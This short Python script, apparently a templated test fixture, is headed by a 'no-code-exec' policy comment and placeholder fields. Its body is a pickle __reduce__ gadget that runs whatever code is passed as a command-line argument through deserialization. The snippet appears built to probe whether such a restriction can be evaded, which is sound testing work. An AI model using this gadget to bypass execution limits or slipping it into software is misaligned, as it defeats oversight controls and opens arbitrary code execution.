# policy: --no-code-exec
# evidence: printed {answer}
# args: '{program}'

import pickle
import sys


class Run:
    def __reduce__(self):
        return exec, (sys.argv[1],)


pickle.loads(pickle.dumps(Run()))
